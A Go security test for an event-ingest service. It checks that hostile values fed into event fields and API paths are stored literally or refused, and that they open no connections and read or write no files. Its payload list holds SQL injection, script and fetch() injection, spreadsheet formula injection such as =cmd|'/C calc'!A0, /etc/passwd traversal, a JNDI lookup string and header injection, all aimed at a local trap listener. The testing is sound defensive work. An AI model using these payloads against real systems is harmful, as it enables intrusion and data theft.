package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"unionscreen/ingest/event"
	"unionscreen/ingest/feed"
)

// TestHostileValues is X3 for input: values that are SQL, settings, parameters, programs, formulas, script or paths
// stand in every string of every type of event, in every parameter of the API, in tables and registries. They come back
// as they are or are refused; the engine opens no connection and no file for them, and no spreadsheet would run them.
func TestHostileValues(t *testing.T) {
	trap := newTrap(t)
	w := startWatched(t, sharedEngine.get(t), &sharedText{}, "hostile")
	sent := w.sendHostile(t, trap.values())
	w.readsAll(t)
	w.keptLiterally(t, sent)
	w.askHostile(t, trap.values())
	w.importHostile(t, trap.values())
	r := running{w.product, w.app}
	r.settled(t)
	r.standings(t, "2026-Q3", "2026-09", "2026")
	if err := w.tally.Health(); err != nil {
		t.Error(err)
	}
	if n := trap.caught.Load(); n != 0 {
		t.Errorf("%d connections were opened by values", n)
	}
	if _, err := os.Stat(trap.target); err == nil {
		t.Errorf("a value made %s", trap.target)
	}
	if said := w.said.String(); strings.Contains(said, trap.secret) || strings.Contains(said, "root:x:0") {
		t.Error("a value had a file read")
	}
	t.Logf("%d hostile values in events; answers by status %v", len(sent), w.answered)
}

// trap is what hostile values would reach: an address that counts who comes, a file to read and one to write.
type trap struct {
	address, secret, source, target string
	caught                          atomic.Int32
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	trap := &trap{address: listener.Addr().String(), secret: "what-only-this-file-says"}
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			trap.caught.Add(1)
			conn.Close()
		}
	}()
	trap.source, trap.target = fileOf(t, "source", trap.secret), filepath.Join(t.TempDir(), "target")
	return trap
}

func (trap *trap) values() []string {
	return []string{
		"'; DROP TABLE ledger; --", "';DROP/**/TABLE/**/ledger;--", `\'; DROP TABLE ledger; --`, "') OR 1=1 --", "{x:String}", "{union:Array(String)}",
		"SETTINGS max_execution_time=0", "' SETTINGS max_execution_time=0 FORMAT Null --", "INTO OUTFILE '" + trap.target + "'",
		"url('http://" + trap.address + "/')", "'||url('http://" + trap.address + "/',CSV,'x String')||'", "file('" + trap.source + "')", "remote('" + trap.address + "',system.one)",
		"<script>fetch('http://" + trap.address + "/')</script>", "<img/src=http://" + trap.address + "/>", "=HYPERLINK(\"http://" + trap.address + "/\",\"x\")", "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1",
		"\t=1+1", "\x00", "a\x00b", `\N`, `\0`, "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "${jndi:ldap://" + trap.address + "/}", "%s%n%d", "{{7*7}}",
		"\u202etxt.exe", "a\r\nSet-Cookie: a=b", "'", `"`, "`", "\\", "NULL", "null",
	}
}

// hostileEvent is one event with one value in one of its strings.
type hostileEvent struct{ field, value, sent string }

// sendHostile sends every type with every value (in the short form a third of them) in each of its strings, in the
// attributes and in fields nobody knows.
func (w *watched) sendHostile(t *testing.T, values []string) map[string]hostileEvent {
	t.Helper()
	sent := map[string]hostileEvent{}
	var batch []feed.Message
	types := map[string]bool{}
	for _, golden := range goldenRecords(t) {
		whole, ok := parsed(golden.value())
		tree, object := whole.(map[string]any)
		kind, _ := tree["type"].(string)
		data, speaks := tree["data"].(map[string]any)
		if !ok || !object || !speaks || len(golden.Headers) > 0 || types[kind] || !golden.full {
			continue
		}
		types[kind] = true
		places := slices.Sorted(maps.Keys(data))
		places = append(places, "source", "subject", "corrects", "id", "type", "time", "extension", "unknown")
		for i, field := range places {
			if _, text := data[field].(string); i < len(data) && !text {
				continue
			}
			for j, value := range values {
				if !long() && j%3 != i%3 {
					continue
				}
				id := fmt.Sprintf("hostile-%d", len(sent))
				tree := maps.Clone(tree)
				tree["id"] = id
				if i < len(data) || field == "unknown" {
					changed := maps.Clone(data)
					changed[field] = value
					tree["data"] = changed
				} else {
					tree[field] = value
				}
				if field == "id" {
					tree["subject"] = id // by which it is found again
				}
				text, err := json.Marshal(tree)
				if err != nil {
					t.Fatal(err)
				}
				sent[id] = hostileEvent{field, value, string(text)}
				batch = append(batch, feed.Message{Topic: "union-work", Key: value, Value: text})
			}
		}
	}
	if got := slices.Sorted(maps.Keys(types)); !slices.Equal(got, event.Types()) {
		t.Errorf("values stand in %v, the types are %v", got, event.Types())
	}
	if err := w.produce(t.Context(), batch); err != nil {
		t.Fatal(err)
	}
	return sent
}

var hostileID = regexp.MustCompile(`hostile-\d+`)

// keptLiterally finds every event in the ledger: accepted with the value as it was, or refused for it with all that was
// sent.
func (w *watched) keptLiterally(t *testing.T, sent map[string]hostileEvent) {
	t.Helper()
	seen, wrong := map[string]int{}, 0
	for line := range bytes.Lines(w.sql(t, "JSONEachRow", "SELECT toString(status) AS status, reason, payload, id, source, type, subject, corrects, data FROM ledger")) {
		var row struct{ Status, Reason, Payload, ID, Source, Type, Subject, Corrects, Data string }
		if err := json.Unmarshal(line, &row); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		name := hostileID.FindString(row.ID + " " + row.Subject + " " + row.Payload)
		was, ok := sent[name]
		seen[name]++
		kept := ok
		switch {
		case row.Status == "rejected":
			kept = ok && row.Payload == was.sent && strings.HasSuffix(row.Reason, was.field)
		case ok:
			var data map[string]any
			if err := json.Unmarshal([]byte(row.Data), &data); err != nil {
				t.Fatalf("%v: %s", err, row.Data)
			}
			got := map[string]any{"source": row.Source, "subject": row.Subject, "corrects": row.Corrects, "id": row.ID, "type": row.Type}[was.field]
			if got == nil {
				got = data[was.field]
			}
			person := slices.Contains([]string{"member", "reader", "author"}, was.field) && regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(fmt.Sprint(got))
			kept = got == was.value || person || (was.field == "extension" || was.field == "unknown") && got == nil
		}
		if !kept {
			if wrong++; wrong <= 10 {
				t.Errorf("%s became %s", was.sent, line)
			}
		}
	}
	for name := range sent {
		if seen[name] != 1 {
			t.Errorf("%s is in the ledger %d times", sent[name].sent, seen[name])
			break
		}
	}
}

// askHostile puts every value into every parameter and path of the API: each is refused as a value, or answered.
func (w *watched) askHostile(t *testing.T, values []string) {
	t.Helper()
	for path, parameters := range apiRoutes {
		for _, value := range values {
			if strings.Contains(path, "@") {
				w.ask(t, "GET", strings.ReplaceAll(path, "@", url.PathEscape(value)), "", nil)
			}
			for _, name := range append(slices.Clone(parameters), value) {
				w.ask(t, "GET", path+"?"+url.QueryEscape(name)+"="+url.QueryEscape(value), "", nil)
			}
		}
	}
	for _, path := range []string{"/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/assets/..%2f..%2fetc%2fpasswd", "/assets/../../etc/passwd", "//etc/passwd"} {
		w.ask(t, "GET", path, "", nil)
	}
	// A source is text to whoever asks for it: exactly its own record comes back.
	asked := 0
	for _, value := range values {
		if strings.ContainsFunc(value, func(c rune) bool { return c <= ' ' || c > '~' }) {
			continue
		}
		bad, err := json.Marshal(map[string]any{"specversion": "1.0", "id": "1", "source": value, "type": "pigeon", "time": "2026-09-01T00:00:00Z", "data": map[string]any{}})
		if err != nil {
			t.Fatal(err)
		}
		if err := w.produce(t.Context(), []feed.Message{{Topic: "union-work", Value: bad}}); err != nil {
			t.Fatal(err)
		}
		asked++
	}
	w.readsAll(t)
	for _, value := range values {
		if strings.ContainsFunc(value, func(c rune) bool { return c <= ' ' || c > '~' }) {
			continue
		}
		var page struct {
			Rejected []struct{ Record, Source string }
		}
		if err := json.Unmarshal(w.ask(t, "GET", "/api/v1/rejected?type=pigeon&source="+url.QueryEscape(value), "", nil), &page); err != nil || len(page.Rejected) != 1 || page.Rejected[0].Source != value {
			t.Errorf("asked for the source %s: %+v, %v", value, page, err)
			continue
		}
		note, _ := json.Marshal(map[string]string{"note": value + "."})
		record := "/api/v1/rejected/" + page.Rejected[0].Record
		w.ask(t, "POST", record+"/dismiss", string(note), map[string]string{"Content-Type": "application/json"})
		w.ask(t, "POST", record+"/dismiss", `{"note":"`+strings.Repeat("x", 2001)+`"}`, map[string]string{"Content-Type": "application/json"})
		w.ask(t, "POST", record+"/replay", `{"event":`+published("x", "/s", "YT")+`,"note":"`+strings.Repeat("x", 2001)+`"}`, map[string]string{"Content-Type": "application/json"})
		var shown struct{ Handled []struct{ Note string } }
		if err := json.Unmarshal(w.ask(t, "GET", record, "", nil), &shown); err != nil || len(shown.Handled) != 1 || shown.Handled[0].Note != value+"." {
			t.Errorf("noted %s: %+v, %v", value, shown, err)
		}
	}
	if asked < 15 || w.answered[200] == 0 || w.answered[400] < 500 || w.answered[404] < 50 {
		t.Errorf("%d sources, answers by status %v", asked, w.answered)
	}
}
